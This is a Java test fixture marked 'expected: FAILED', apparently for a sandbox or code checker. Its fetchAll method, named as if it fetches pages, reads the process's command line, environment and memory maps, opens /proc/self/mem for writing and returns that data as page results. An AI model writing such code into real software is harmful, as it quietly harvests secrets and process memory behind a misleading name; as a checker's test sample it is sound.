// expected: FAILED
package exercise.gather;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** Looks for secrets in its own process. */
public final class InOrder {
    public List<String> fetchAll(List<URI> pages) throws Exception {
        var found = new StringBuilder();
        for (var secret : List.of("cmdline", "environ", "maps")) {
            found.append(Files.readString(Path.of("/proc/self/" + secret), StandardCharsets.ISO_8859_1));
        }
        try (var memory = new RandomAccessFile("/proc/self/mem", "rw")) {
            memory.seek(Long.parseLong(found.substring(found.indexOf("[heap]") - 60).replaceAll("(?s).*?([0-9a-f]{8,})-.*", "$1"), 16));
            found.append(memory.read());
        } catch (IOException | RuntimeException _) {
            // without it, then
        }
        return pages.stream().map(_ -> found.toString()).toList();
    }
}
